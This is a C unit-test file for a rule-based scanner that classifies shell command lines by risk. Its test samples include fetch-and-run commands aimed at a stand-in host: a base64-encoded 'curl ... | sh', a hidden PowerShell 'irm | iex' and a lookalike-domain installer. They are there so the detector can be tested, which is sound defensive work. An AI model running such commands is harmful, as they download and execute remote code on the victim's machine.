/* The command provider as a module: what loads, what does not and why, what an answer holds. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "module_host.h"
#include "testing.h"

static struct module_host host;
static char folder[64];

/* A module is never unloaded. What was loaded stays in reach, so that a leak checker sees the rest.
 */
static void *states[64];
static size_t n_states;

#define PATTERN "pattern p\n  re needle\n"
#define RULE                                                                                       \
    "rule r\n  technique T1059\n  verdict suspicious\n  severity low\n  confidence 50\n"           \
    "  advice do_not_run\n  when p\n  match a needle\n  pass hay\n"

static int group_set_up(void **state)
{
    module_host_open(&host, COMMAND_MODULE);
    return 0;
}

static int set_up(void **state)
{
    strcpy(folder, "/tmp/test-command-XXXXXX");
    return mkdtemp(folder) ? 0 : -1;
}

static int tear_down(void **state)
{
    char command[128];

    snprintf(command, sizeof(command), "rm -rf '%s'", folder);
    return system(command);
}

static void put(const char *name, const char *text)
{
    char path[256];
    FILE *file;

    snprintf(path, sizeof(path), "%s/%s", folder, name);
    file = fopen(path, "we");
    assert_non_null(file);
    assert_true(fputs(text, file) >= 0);
    assert_int_equal(fclose(file), 0);
}

static void assert_loads(const char *definitions)
{
    if (module_host_load(&host, definitions, NULL) < 0) {
        fail_msg("%s", host.load.failure);
    }
    assert_true(n_states < sizeof(states) / sizeof(states[0]));
    states[n_states++] = host.state;
}

static void assert_refused(const char *text, const char *part, const char *other_part)
{
    put("a.rules", text);
    assert_int_equal(module_host_load(&host, folder, NULL), -1);
    if (!strstr(host.load.failure, part) || !strstr(host.load.failure, other_part)) {
        fail_msg("'%s' lacks '%s' or '%s'", host.load.failure, part, other_part);
    }
    assert_null(strchr(host.load.failure, '\n'));
}

static void rules_of_several_files_use_each_others_patterns(void **state)
{
    struct pes_scan scan;

    put("b.rules", PATTERN);
    put("a.rules", RULE);
    put("readme.txt", "no rules");
    assert_loads(folder);
    assert_string_equal(host.load.note, "1 rules and 1 expressions in 2 files");
    module_host_scan_text(&host, &scan, "xx NEEDLE");
    assert_int_equal(scan.n_findings, 1);
    assert_string_equal(scan.findings[0].detection, "r");
    assert_string_equal(scan.findings[0].rule_id, "a.rules:r");
    assert_string_equal(scan.findings[0].technique, "T1059");
    assert_int_equal(scan.findings[0].verdict, PES_VERDICT_SUSPICIOUS);
    assert_int_equal(scan.findings[0].confidence, 50);
    assert_int_equal(scan.findings[0].advice, PES_ADVICE_DO_NOT_RUN);
    assert_int_equal(scan.findings[0].offset, 3);
    assert_int_equal(scan.findings[0].length, 6);
    assert_string_equal(scan.findings[0].what, "p");
    assert_int_equal(scan.coverage, PES_COVERAGE_FULL);
    assert_int_equal(scan.n_examined, 9);
}

static void mistakes_are_named_with_file_and_line(void **state)
{
    assert_refused("pattern p\n\n  re (x\n" RULE, "a.rules:3: missing )", "mend the expression");
    assert_refused("pattern p\n  re Needle\n" RULE, "a.rules:2:", "write it in lower case");
    assert_refused("patern p\n", "a.rules:1:", "none of pattern, rule and known");
    assert_refused(PATTERN PATTERN RULE, "a.rules:3:", "choose another name");
    assert_refused(PATTERN RULE RULE, "a.rules:12: there is a rule of this name", "another name");
    assert_refused(PATTERN "rule r\n  when q\n", "a.rules:4: there is no pattern or fact 'q'",
                   "define it");
    assert_refused(PATTERN "rule r\n  verdict bad\n", "a.rules:4: 'bad' is no verdict",
                   "suspicious");
    assert_refused(PATTERN "rule r\n  technique X1\n", "a.rules:4:", "like T1059.001");
    assert_refused(PATTERN "rule r\n  confidence 0\n", "a.rules:4:", "use 1 to 100");
    assert_refused(PATTERN "rule r\n  when !p\n", "a.rules:4:", "without '!'");
    assert_refused(PATTERN "rule r\n  when p\n", "a.rules:3: rule 'r' is not complete", "match");
    assert_refused("  re x\n", "a.rules:1:", "belongs to a pattern");
    assert_refused("known https://a.example\n" PATTERN RULE, "a.rules:1:", "without its scheme");
    assert_refused("# nothing\n", "no rules", "add some");
}

static void several_mistakes_are_counted(void **state)
{
    assert_refused("patern p\npatern q\n", "a.rules:1:", "first of 2 errors");
}

static void a_rule_that_fails_its_own_test_is_refused(void **state)
{
    assert_refused(PATTERN RULE "  match hay\n", "a.rules:12: rule 'r' does not match", "mend");
    assert_refused(PATTERN RULE "  pass needle\n", "a.rules:12: rule 'r' matches what", "mend");
}

static void definitions_that_are_not_there_are_refused(void **state)
{
    assert_int_equal(module_host_load(&host, "/nonexistent", NULL), -1);
    assert_non_null(strstr(host.load.failure, "/nonexistent: does not exist; correct"));
    assert_int_equal(module_host_load(&host, folder, NULL), -1);
    assert_non_null(strstr(host.load.failure, "put *.rules files there"));
    assert_int_equal(module_host_load(&host, NULL, NULL), -1);
    assert_non_null(strstr(host.load.failure, "set `definitions`"));
}

static void the_version_follows_the_contents(void **state)
{
    char first[64];

    put("a.rules", PATTERN RULE);
    assert_loads(folder);
    strcpy(first, host.load.version);
    assert_loads(folder);
    assert_string_equal(host.load.version, first);
    put("a.rules", PATTERN RULE "# more\n");
    assert_loads(folder);
    assert_string_not_equal(host.load.version, first);
}

/* Loading runs every test of every rule: this is the test of all of them. */
static void the_rules_that_ship_pass_their_own_tests(void **state)
{
    const struct pes_sample *samples;
    size_t n;
    bool has_clean = false;

    assert_loads(SHIPPED_COMMAND_RULES);
    n = host.provider->samples(host.state, &samples);
    assert_true(n >= 20);
    for (size_t i = 0; i < n; i++) {
        struct pes_scan scan;

        module_host_scan(&host, &scan, samples[i].bytes, samples[i].n_bytes);
        has_clean |= samples[i].verdict == PES_VERDICT_NOT_DETECTED;
        for (size_t f = 0; f < scan.n_findings; f++) {
            assert_int_equal(scan.findings[f].verdict, samples[i].verdict);
        }
        assert_int_equal(scan.n_findings == 0, samples[i].verdict == PES_VERDICT_NOT_DETECTED);
    }
    assert_true(has_clean);
}

static uint32_t verdict_of(const char *text)
{
    struct pes_scan scan;
    uint32_t verdict = PES_VERDICT_NOT_DETECTED;

    module_host_scan_text(&host, &scan, text);
    for (size_t i = 0; i < scan.n_findings; i++) {
        verdict = scan.findings[i].verdict > verdict ? scan.findings[i].verdict : verdict;
    }
    return verdict;
}

static void an_encoded_line_is_shown_decoded_and_pointed_at(void **state)
{
    const char *line = "echo Y3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2EgfCBzaA== | base64 -d | sh";
    const struct module_host_finding *found;
    struct pes_scan scan;

    assert_loads(SHIPPED_COMMAND_RULES);
    module_host_scan_text(&host, &scan, line);
    assert_string_equal(scan.decoded, "curl -s http://a.example/a | sh");
    found = module_host_found(&scan, "fetched-and-run-unseen");
    assert_non_null(found);
    assert_int_equal(found->verdict, PES_VERDICT_MALICIOUS);
    assert_true(found->n_ranges >= 1);
    assert_true(found->offset >= 5 && found->offset + found->length <= strlen(line));
}

static void vendors_installers_are_uncommon_at_most(void **state)
{
    assert_loads(SHIPPED_COMMAND_RULES);
    assert_int_equal(verdict_of("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"),
                     PES_VERDICT_UNCOMMON);
    assert_int_equal(verdict_of("curl -fsSL https://get.docker.com | sh"), PES_VERDICT_UNCOMMON);
    assert_int_equal(verdict_of("iwr -useb get.scoop.sh | iex"), PES_VERDICT_UNCOMMON);
    assert_int_equal(verdict_of("curl -fsSL https://get.docker.com.a.example | sh"),
                     PES_VERDICT_SUSPICIOUS);
    /* Hidden, it is no installer. */
    assert_int_equal(verdict_of("powershell -w hidden -c \"irm https://get.scoop.sh | iex\""),
                     PES_VERDICT_MALICIOUS);
}

static void everyday_commands_are_left_alone(void **state)
{
    static const char *const lines[] = {
        "ls -la",
        "git commit -m 'fix the curl | sh example'",
        "docker run --rm -it debian bash",
        "grep -r password src",
        "tar xzf a.tar.gz && cd a && ./configure && make",
        "ssh -L 8080:localhost:80 host.example",
        "Get-ChildItem | Sort-Object Length",
        "msiexec /i C:\\Installers\\tool.msi /qn",
        "find . -name '*.o' -exec rm {} +",
        "for i in 1 2 3; do echo $i; done",
        "python3 -m http.server 8000",
        "openssl s_client -connect host.example:443",
    };

    assert_loads(SHIPPED_COMMAND_RULES);
    for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
        if (verdict_of(lines[i]) != PES_VERDICT_NOT_DETECTED) {
            fail_msg("%s", lines[i]);
        }
    }
}

/* Each line of a file: variants of techniques, written beside the rules. */
static void assert_lines(const char *path, bool is_flagged, size_t n_min)
{
    FILE *file = fopen(path, "re");
    char line[4096];
    size_t n = 0;

    assert_non_null(file);
    while (fgets(line, sizeof(line), file)) {
        uint32_t verdict;

        line[strcspn(line, "\n")] = '\0';
        verdict = verdict_of(line);
        if ((verdict == PES_VERDICT_NOT_DETECTED || verdict == PES_VERDICT_UNCOMMON) ==
            is_flagged) {
            fail_msg("%s: %s", is_flagged ? "not found" : "not left alone", line);
        }
        n++;
    }
    assert_int_equal(fclose(file), 0);
    assert_true(n >= n_min);
}

static void variants_of_techniques_are_found(void **state)
{
    assert_loads(SHIPPED_COMMAND_RULES);
    assert_lines(LINES "/found.txt", true, 400);
}

static void what_comes_close_to_them_is_left_alone(void **state)
{
    assert_loads(SHIPPED_COMMAND_RULES);
    assert_lines(LINES "/left-alone.txt", false, 300);
}

static void what_was_not_looked_at_is_said(void **state)
{
    struct pes_scan scan = {.bytes = "a needle", .n_bytes = 8, .time_left_us = 0};
    size_t n = 3 << 19;
    char *content = malloc(n);

    assert_non_null(content);
    put("a.rules", PATTERN RULE);
    assert_loads(folder);
    assert_int_equal(host.provider->scan(host.state, &scan), 0);
    assert_int_equal(scan.coverage, PES_COVERAGE_PARTIAL_TIME);
    assert_int_equal(scan.n_examined, 0);

    memset(content, '.', n);
    memcpy(content, "needle", 6);
    module_host_scan(&host, &scan, content, n);
    assert_int_equal(scan.coverage, PES_COVERAGE_PARTIAL_SIZE);
    assert_int_equal(scan.n_examined, 1 << 20);
    assert_int_equal(scan.n_findings, 1);

    /* Layers beyond the limit: hexadecimal of hexadecimal of ... */
    n = 4;
    memcpy(content, "echo", 4);
    for (unsigned layer = 0; layer < 12; layer++) {
        for (size_t i = n; i > 0; i--) {
            static const char digits[] = "0123456789abcdef";
            uint8_t byte = (uint8_t)content[i - 1];

            content[2 * i - 1] = digits[byte & 15];
            content[2 * i - 2] = digits[byte >> 4];
        }
        n *= 2;
    }
    module_host_scan(&host, &scan, content, n);
    assert_int_equal(scan.coverage, PES_COVERAGE_PARTIAL_DEPTH);
    free(content);
}

/* A program in machine code has strings that look like anything; it is not a script. */
static void machine_code_is_not_supported(void **state)
{
    uint8_t content[4096] = "\x7f"
                            "ELF";
    struct pes_scan scan;

    put("a.rules", PATTERN RULE);
    assert_loads(folder);
    memcpy(content + 512, "needle", 6);
    module_host_scan(&host, &scan, content, sizeof(content));
    assert_int_equal(scan.coverage, PES_COVERAGE_UNSUPPORTED);
    assert_int_equal(scan.n_examined, 0);
    assert_int_equal(scan.n_findings, 0);
    module_host_scan(&host, &scan,
                     "\xff\xfe"
                     "n\0e\0e\0d\0l\0e\0",
                     14);
    assert_int_equal(scan.coverage, PES_COVERAGE_FULL);
    assert_int_equal(scan.n_findings, 1);
}

/* In a long script, two halves of a rule that stand far apart are no finding; together they are. */
static void a_rule_is_about_one_place(void **state)
{
    size_t n = 64 << 10;
    char *content = malloc(n);
    struct pes_scan scan;

    assert_non_null(content);
    put("a.rules", "pattern p\n  re needle\npattern q\n  re thread\nrule r\n  technique T1059\n"
                   "  verdict suspicious\n  severity low\n  confidence 50\n  when p q\n"
                   "  match needle thread\n  pass needle\n");
    assert_loads(folder);
    for (size_t i = 0; i < n; i++) {
        content[i] = i % 40 == 39 ? '\n' : i % 7 == 3 ? ' ' : 'x';
    }
    memcpy(content + 100, " needle ", 8);
    memcpy(content + 60000, " thread ", 8);
    module_host_scan(&host, &scan, content, n);
    assert_int_equal(scan.n_findings, 0);
    assert_int_equal(scan.coverage, PES_COVERAGE_FULL);
    memcpy(content + 60500, " needle ", 8);
    module_host_scan(&host, &scan, content, n);
    assert_int_equal(scan.n_findings, 1);
    free(content);
}

#define CASE(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)

int main(void)
{
    const struct CMUnitTest tests[] = {
        CASE(rules_of_several_files_use_each_others_patterns),
        CASE(mistakes_are_named_with_file_and_line),
        CASE(several_mistakes_are_counted),
        CASE(a_rule_that_fails_its_own_test_is_refused),
        CASE(definitions_that_are_not_there_are_refused),
        CASE(the_version_follows_the_contents),
        CASE(the_rules_that_ship_pass_their_own_tests),
        CASE(an_encoded_line_is_shown_decoded_and_pointed_at),
        CASE(vendors_installers_are_uncommon_at_most),
        CASE(everyday_commands_are_left_alone),
        CASE(variants_of_techniques_are_found),
        CASE(what_comes_close_to_them_is_left_alone),
        CASE(what_was_not_looked_at_is_said),
        CASE(machine_code_is_not_supported),
        CASE(a_rule_is_about_one_place),
    };

    return cmocka_run_group_tests(tests, group_set_up, NULL);
}
